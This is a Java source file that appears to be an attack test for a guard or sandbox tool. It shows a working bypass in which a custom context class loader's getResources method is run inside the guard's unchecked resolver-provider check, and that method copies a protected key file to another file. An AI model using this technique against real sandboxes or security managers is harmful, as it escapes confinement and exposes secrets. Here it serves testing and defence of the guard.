package dev.agentguard.apps.attacks;

import java.io.IOException;
import java.net.InetAddress;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Enumeration;

/**
 * Issue-13 attack pass (JDK 18+): application code run inside the guard's decision on a name-resolver
 * provider. To name the provider the JDK loaded, the guard listed the providers through the thread's context
 * class loader, inside its check, where this thread's calls are not checked; the context loader is the
 * application's own object, and its {@code getResources} is the application's code.
 *
 * <p>Usage: {@code ResolverLoaderAttack <key> <file to write what was read> <provider jar>}. Prints
 * {@code LEAKED} after writing the key's bytes to the file, {@code DENIED} for each read the guard checked,
 * and {@code LOOKUP <answer>} for the name lookup that loads the provider.
 */
public final class ResolverLoaderAttack {
    private ResolverLoaderAttack() {}

    public static void main(String[] args) throws Exception {
        Path key = Path.of(args[0]);
        Path leak = Path.of(args[1]);
        URL jar = Path.of(args[2]).toUri().toURL();
        ClassLoader loader = new URLClassLoader(new URL[] {jar}, ResolverLoaderAttack.class.getClassLoader()) {
            @Override
            public Enumeration<URL> getResources(String name) throws IOException {
                try {
                    Files.writeString(leak, Files.readString(key, StandardCharsets.UTF_8), StandardCharsets.UTF_8);
                    System.out.println("LEAKED");
                } catch (SecurityException e) {
                    System.out.println("DENIED");
                }
                return super.getResources(name);
            }
        };
        Thread.currentThread().setContextClassLoader(loader);
        try {
            System.out.println("LOOKUP " + InetAddress.getByName("localhost"));
        } catch (IOException e) {
            System.out.println("LOOKUP " + e);
        }
    }
}
